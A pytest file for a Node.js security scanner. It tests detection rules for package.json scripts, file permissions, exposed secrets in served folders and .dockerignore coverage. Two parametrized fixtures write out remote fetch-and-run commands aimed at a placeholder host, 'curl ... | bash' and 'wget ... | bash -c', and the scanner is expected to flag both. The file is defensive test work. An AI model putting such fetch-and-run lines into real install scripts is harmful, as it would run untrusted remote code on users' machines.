"""package.json settings (table-driven: JSON has no comments), and the checks that look at the tree:
file modes of real files created with real modes, and `COPY . .` against the `.dockerignore`."""

from __future__ import annotations

import datetime
import json
import os
from pathlib import Path

import pytest

from nodeward.deploy.dockerignore import is_excluded, parse_dockerignore
from nodeward.scan import ScanOptions
from nodeward.scanners import FileResult, ProjectContext
from nodeward.scanners.config import ConfigProjectScanner, ConfigScanner
from nodeward.sources.discover import FileKind, SourceFile

TODAY = datetime.date(2026, 11, 29)


def scan_package(data: dict[str, object], tmp_path: Path) -> list[tuple[int, str, str]]:
    text = json.dumps(data, indent=2)
    path = tmp_path / "package.json"
    path.write_text(text)
    file = SourceFile(path, "package.json", FileKind.PACKAGE_JSON, len(text))
    result = ConfigScanner(None, today=TODAY).scan_file(file, text.encode(), text)
    return [(f.line, f.rule_id, f.severity.label) for f in result.findings]


@pytest.mark.parametrize(("package", "expected"), [
    ({"scripts": {"postinstall": "curl -sL https://x.example/i.sh | bash"}}, [(3, "NW704", "high")]),
    ({"scripts": {"setup": "bash -c \"$(wget -qO- https://x.example/i.sh)\""}}, [(3, "NW704", "high")]),
    ({"scripts": {"fetch": "curl -o data.json https://x.example/data.json"}}, []),
    ({"scripts": {"start": "node --inspect=0.0.0.0:9229 server.js"}}, [(3, "NW721", "high")]),
    ({"scripts": {"start": "node --inspect server.js"}}, [(3, "NW721", "medium")]),
    ({"scripts": {"debug": "node --inspect server.js"}}, []),
    ({"scripts": {"debug": "node --inspect-brk=[::]:9229 server.js"}}, [(3, "NW721", "high")]),
    ({"scripts": {"serve": "NODE_OPTIONS=--inspect node server.js"}}, [(3, "NW721", "medium")]),
    ({"scripts": {"dev": "NODE_OPTIONS='--inspect=127.0.0.1:9229' nodemon"}}, [(3, "NW721", "medium")]),
    ({"scripts": {"build": "tsc", "start": "node dist/server.js"}}, []),
    ({"scripts": {"ci": "npm install --registry=http://registry.internal"}}, [(3, "NW724", "high")]),
    ({"engines": {"node": ">=14"}}, [(3, "NW722", "low")]),
    ({"engines": {"node": "^18.0.0 || >=20"}}, [(3, "NW722", "low")]),
    ({"engines": {"node": "*"}}, [(3, "NW722", "low")]),
    ({"engines": {"node": ">=22"}}, []),
    ({"engines": {"node": "24.x"}}, []),
    ({"engines": {"node": "lts/*"}}, []),  # not a range npm understands: nothing to judge
    ({"engines": {"npm": ">=6"}}, []),
    # a published library says which versions it supports, not which one runs in production
    ({"name": "lib", "version": "1.0.0", "files": ["index.js"], "engines": {"node": ">=0.8"}}, []),
    ({"name": "app", "version": "1.0.0", "private": True, "engines": {"node": ">=14"}}, [(6, "NW722", "low")]),
])
def test_package_json(package: dict[str, object], expected: list[tuple[int, str, str]], tmp_path: Path) -> None:
    assert scan_package(package, tmp_path) == expected


def test_end_of_life_depends_on_the_date(tmp_path: Path) -> None:
    text = json.dumps({"engines": {"node": ">=20"}})
    file = SourceFile(tmp_path / "package.json", "package.json", FileKind.PACKAGE_JSON, len(text))
    before = ConfigScanner(None, today=datetime.date(2026, 4, 1)).scan_file(file, text.encode(), text)
    after = ConfigScanner(None, today=datetime.date(2026, 5, 1)).scan_file(file, text.encode(), text)
    assert before.findings == [] and [f.rule_id for f in after.findings] == ["NW722"]


def test_invalid_package_json_is_a_notice(tmp_path: Path) -> None:
    file = SourceFile(tmp_path / "package.json", "package.json", FileKind.PACKAGE_JSON, 5)
    result = ConfigScanner(None, today=TODAY).scan_file(file, b"{nope", "{nope")
    assert [n.kind for n in result.notices] == ["skipped"] and "invalid JSON" in result.notices[0].message


# -- the tree ----------------------------------------------------------------------------------------


def project_scan(root: Path, exclude: tuple[str, ...] = ()) -> FileResult:
    dockerfiles = [SourceFile(p, p.relative_to(root).as_posix(), FileKind.DOCKERFILE, p.stat().st_size)
                   for p in sorted(root.rglob("Dockerfile"))]
    context = ProjectContext((root,), tuple(dockerfiles), ScanOptions(exclude=exclude))
    return ConfigProjectScanner(None).scan_project(dockerfiles, context)


def make(path: Path, mode: int, content: str = "x\n") -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(content)
    path.chmod(mode)
    return path


KEY = "-----BEGIN PRIVATE KEY-----\nMIIE...\n-----END PRIVATE KEY-----\n"
CERTIFICATE = "-----BEGIN CERTIFICATE-----\nMIID...\n-----END CERTIFICATE-----\n"


@pytest.mark.skipif(os.name == "nt", reason="POSIX modes")
def test_sensitive_files_readable_by_others_are_found_by_their_real_mode(tmp_path: Path) -> None:
    make(tmp_path / ".env", 0o644, "DB_PASSWORD=x\n")
    make(tmp_path / ".env.example", 0o644)
    make(tmp_path / "certs" / "server.pem", 0o640, KEY)
    make(tmp_path / "certs" / "chain.pem", 0o644, CERTIFICATE)
    make(tmp_path / "certs" / "private.key", 0o600)
    make(tmp_path / "logs" / "app.log", 0o644)
    make(tmp_path / "data" / "app.sqlite", 0o600)
    make(tmp_path / "core", 0o644, "\x7fELF...")
    make(tmp_path / "src" / "core", 0o644, "not a dump")
    make(tmp_path / "report.20250101.101010.4242.0.001.json", 0o644, "{}")
    make(tmp_path / "node_modules" / "pkg" / ".env", 0o644)  # not the project's own files
    found = {(f.path, f.rule_id, f.severity.label) for f in project_scan(tmp_path).findings}
    assert found == {
        (".env", "NW725", "high"),
        ("certs/server.pem", "NW725", "medium"),  # group-readable
        ("logs/app.log", "NW725", "medium"),
        ("core", "NW725", "medium"),
        ("report.20250101.101010.4242.0.001.json", "NW725", "medium"),
    }


@pytest.mark.skipif(os.name == "nt", reason="POSIX modes")
def test_world_writable_files_and_directories(tmp_path: Path) -> None:
    make(tmp_path / "server.js", 0o666)
    make(tmp_path / "ok.js", 0o644)
    (tmp_path / "uploads").mkdir()
    (tmp_path / "uploads").chmod(0o777)
    (tmp_path / "scratch").mkdir()
    (tmp_path / "scratch").chmod(0o1777)
    (tmp_path / "link").symlink_to(tmp_path / "ok.js")  # links always show 0777: not reported
    found = {(f.path, f.rule_id, f.severity.label) for f in project_scan(tmp_path).findings}
    assert found == {("server.js", "NW706", "medium"), ("uploads/", "NW706", "medium"), ("scratch/", "NW706", "low")}


@pytest.mark.skipif(os.name == "nt", reason="POSIX modes")
def test_sensitive_files_and_git_in_served_directories(tmp_path: Path) -> None:
    make(tmp_path / "public" / "index.html", 0o644)
    make(tmp_path / "public" / ".env", 0o600)
    make(tmp_path / "public" / ".git" / "config", 0o644)
    found = {(f.path, f.rule_id) for f in project_scan(tmp_path).findings}
    assert found == {("public/.env", "NW726"), ("public/.git/", "NW726")}


@pytest.mark.skipif(os.name == "nt", reason="POSIX modes")
def test_excluded_paths_are_not_checked(tmp_path: Path) -> None:
    make(tmp_path / "fixtures" / ".env", 0o644)
    assert project_scan(tmp_path, exclude=("fixtures/",)).findings == []


@pytest.mark.skipif(os.name == "nt", reason="POSIX modes")
def test_file_permissions_practice_evidence(tmp_path: Path) -> None:
    def record(root: Path) -> dict[str, object]:
        [entry] = [r for r in project_scan(root).summaries["practices"] if r["practice"] == "file-permissions"]
        return entry

    empty = tmp_path / "empty"
    empty.mkdir()
    assert record(empty)["status"] == "not-applicable"
    tidy = tmp_path / "tidy"
    make(tidy / ".env", 0o600)
    assert record(tidy) == {"practice": "file-permissions", "status": "in-place",
                            "evidence": "1 sensitive file(s), all owner-only: .env 0600", "path": ".", "line": 0}
    make(tidy / "server.key", 0o644)
    assert record(tidy)["status"] == "missing" and "server.key 0644" in str(record(tidy)["evidence"])


# -- .dockerignore -----------------------------------------------------------------------------------


@pytest.mark.parametrize(("patterns", "path", "excluded"), [
    (".env", ".env", True),
    (".env", "sub/.env", False),  # anchored at the context root, unlike .gitignore
    ("**/.env", "sub/.env", True),
    (".env*\n!.env.example", ".env.example", False),
    ("node_modules", "node_modules/x/package.json", True),  # a directory excludes what is below it
    ("*.pem", "private.pem", True),
    ("/.git", ".git/config", True),
    ("# comment\n\n*.md", "README.md", True),
    ("[!a]bc", "xbc", True),
])
def test_dockerignore_semantics(patterns: str, path: str, excluded: bool) -> None:
    assert is_excluded(parse_dockerignore(patterns), path) is excluded


def test_copy_of_the_whole_context(tmp_path: Path) -> None:
    dockerfile = "FROM node:22\nCOPY package.json ./\nCOPY . .\nCOPY --from=build /app /app\n"
    make(tmp_path / "app" / "Dockerfile", 0o644, dockerfile)
    make(tmp_path / "app" / ".env", 0o600)
    [finding] = [f for f in project_scan(tmp_path).findings if f.rule_id == "NW703"]
    assert (finding.path, finding.line, finding.severity.label) == ("app/Dockerfile", 3, "high")
    assert "no .dockerignore" in finding.message and ".env would be copied" in finding.message

    make(tmp_path / "app" / ".dockerignore", 0o644, ".env\nnode_modules\n")
    [finding] = [f for f in project_scan(tmp_path).findings if f.rule_id == "NW703"]
    assert (finding.severity.label, finding.confidence.label) == ("low", "low") and ".git, keys" in finding.message
    assert "none of these is in the context now" in finding.message
    (tmp_path / "app" / ".git").mkdir()  # the history ships with the image
    [finding] = [f for f in project_scan(tmp_path).findings if f.rule_id == "NW703"]
    assert (finding.severity.label, finding.confidence.label) == ("high", "high") and ".git would be copied" in \
        finding.message
    (tmp_path / "app" / ".git").rmdir()

    make(tmp_path / "app" / ".dockerignore", 0o644, ".env*\n.git\nnode_modules\n*.pem\n*.key\n")
    assert [f for f in project_scan(tmp_path).findings if f.rule_id == "NW703"] == []
    make(tmp_path / "app" / "Dockerfile.dockerignore", 0o644, "node_modules\n")  # BuildKit: takes precedence
    assert [f.rule_id for f in project_scan(tmp_path).findings if f.rule_id == "NW703"] == ["NW703"]


def scan_dockerfile_beside(manifest: dict[str, object] | None, folder: Path) -> list[str]:
    dockerfile = "FROM node:22-alpine\nWORKDIR /app\nCOPY package*.json ./\nRUN npm ci\nCMD [\"node\", \"server.js\"]\n"
    folder.mkdir()
    path = folder / "Dockerfile"
    path.write_text(dockerfile)
    if manifest is not None:
        (folder / "package.json").write_text(json.dumps(manifest))
    file = SourceFile(path, "Dockerfile", FileKind.DOCKERFILE, len(dockerfile))
    result = ConfigScanner(None, today=TODAY).scan_file(file, dockerfile.encode(), dockerfile)
    return sorted({f.rule_id for f in result.findings})


def test_dev_dependencies_in_the_image_need_declared_dev_dependencies(tmp_path: Path) -> None:
    # the package.json of the build context says whether an install without --omit=dev ships dev packages
    assert "NW709" in scan_dockerfile_beside({"devDependencies": {"jest": "^29"}}, tmp_path / "with")
    assert "NW709" in scan_dockerfile_beside(None, tmp_path / "unknown")
    found = scan_dockerfile_beside({"dependencies": {"express": "^4"}}, tmp_path / "none")
    assert "NW709" not in found and "NW710" in found  # the other checks of the image still run
    assert "NW709" not in scan_dockerfile_beside({"devDependencies": {}}, tmp_path / "empty")
